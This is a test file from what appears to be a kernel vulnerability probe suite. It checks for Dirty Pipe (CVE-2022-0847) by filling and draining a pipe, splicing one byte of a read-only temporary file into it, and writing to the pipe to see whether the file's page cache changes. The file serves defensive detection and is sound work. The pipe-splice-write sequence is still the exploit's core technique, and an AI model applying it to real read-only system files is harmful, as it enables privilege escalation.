// Claim: a pipe buffer that was spliced from a read-only file is never merged with later pipe
// writes (Dirty Pipe, CVE-2022-0847). Timeline: fill the pipe and drain it (every slot keeps
// PIPE_BUF_FLAG_CAN_MERGE on a vulnerable kernel), splice one byte of the file into it, write
// to the pipe; the file's page cache must not change. Fails loudly on a vulnerable kernel.
import test from 'ava';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FILE, native } from '../harness/native.ts';

test('Dirty Pipe probe: writing to a pipe after splicing a read-only file leaves the file unchanged', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'zcprobe-dirtypipe-'));
  const path = join(dir, 'victim');
  const original = Buffer.alloc(4096, 'A');
  writeFileSync(path, original);
  const fd = native.open(path, FILE.O_RDONLY);
  const [r, w] = native.pipe2(0);
  try {
    const capacity = native.fcntlInt(w, FILE.F_GETPIPE_SZ);
    const chunk = Buffer.alloc(4096, 0);
    for (let filled = 0; filled < capacity; ) filled += native.write(w, chunk, 0, Math.min(chunk.length, capacity - filled));
    for (let drained = 0; drained < capacity; ) drained += native.read(r, chunk, 0, Math.min(chunk.length, capacity - drained));
    const spliced = native.splice(fd, 0, w, null, 1, 0); // file offset 0, one byte
    t.is(spliced, 1);
    const payload = Buffer.from('DIRTYPIPE');
    native.write(w, payload, 0, payload.length);
    const after = readFileSync(path);
    const vulnerable = !after.equals(original);
    t.false(vulnerable, `VULNERABLE to CVE-2022-0847: the read-only file now starts with ${JSON.stringify(after.subarray(0, 12).toString())}`);
    t.log(vulnerable ? 'vulnerable' : 'not vulnerable: the page cache of the read-only file is unchanged');
  } finally {
    native.close(r);
    native.close(w);
    native.close(fd);
    rmSync(dir, { recursive: true, force: true });
  }
});
